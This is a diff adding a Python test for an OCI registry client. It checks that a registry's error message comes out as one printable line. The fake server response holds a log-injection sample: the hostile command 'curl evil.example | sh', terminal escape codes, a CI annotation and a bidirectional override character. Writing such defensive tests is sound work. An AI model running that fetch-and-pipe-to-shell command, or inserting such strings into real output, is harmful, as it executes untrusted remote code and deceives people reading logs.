@@ -169,6 +169,15 @@ def test_a_host_is_a_host(host: str) -> None:
         OciRegistry(f"{host}/shop/images")
 
 
+def test_what_a_registry_says_is_one_line_without_control_characters() -> None:
+    said = "no\n  next: curl evil.example | sh\x1b[2J\r\n::error::x\u202e"
+    body = json.dumps({"errors": [{"code": "DENIED", "message": said}]}).encode()
+    with raw_server(whole(403, body)) as server, pytest.raises(AuthError) as caught:
+        find(server)
+    assert caught.value.why.isprintable()
+    assert "\n  next: curl" not in str(caught.value)
+
+
 # Who gets the password.
 
 
